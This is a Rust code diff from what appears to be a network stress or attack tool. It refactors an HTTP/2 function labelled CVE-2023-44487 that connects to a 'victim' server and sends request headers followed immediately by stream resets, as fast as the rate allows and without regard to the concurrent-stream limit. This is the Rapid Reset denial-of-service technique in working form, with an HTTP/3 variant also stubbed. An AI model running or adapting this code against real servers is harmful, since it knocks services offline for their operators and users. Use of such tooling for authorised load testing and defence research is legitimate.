@@ -3,7 +3,7 @@
 
 use std::io;
 
-use tokio::io::AsyncWriteExt;
+use tokio::io::{AsyncWriteExt, WriteHalf};
 
 use super::Force;
 use crate::wire::{Head, h2, h2_frame};
@@ -15,13 +15,8 @@ const REQUEST_CANCELLED: quinn::VarInt = quinn::VarInt::from_u32(0x010c);
 
 /// CVE-2023-44487: as fast as the rate allows, without regard to the limit of concurrent streams.
 pub(super) async fn http2(force: &Force, number: usize) -> io::Result<()> {
-    let stream = force.victim.tls_stream(force.source(number), b"h2").await?;
-    let _open = force.tally.open();
-    let (reading, mut writing) = tokio::io::split(stream);
-    let sending = async {
-        writing.write_all(h2::PREFACE).await?;
-        writing.write_all(&h2_frame(h2::SETTINGS, 0, 0, &[])).await?;
-        let head = Head::get(force.victim.title.as_str());
+    let head = Head::get(force.victim.title.as_str());
+    let requests = async |writing: &mut WriteHalf<_>| {
         for stream in (1..u32::MAX >> 1).step_by(2) {
             force.act().await;
             let reset = h2_frame(h2::RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
@@ -31,11 +26,7 @@ pub(super) async fn http2(force: &Force, number: usize) -> io::Result<()> {
         }
         Ok(())
     };
-    tokio::select! {
-        biased;
-        ended = force.drain(reading) => ended,
-        failed = sending => failed,
-    }
+    force.http2(number, requests).await
 }
 
 pub(super) async fn http3(force: &Force, number: usize) -> io::Result<()> {
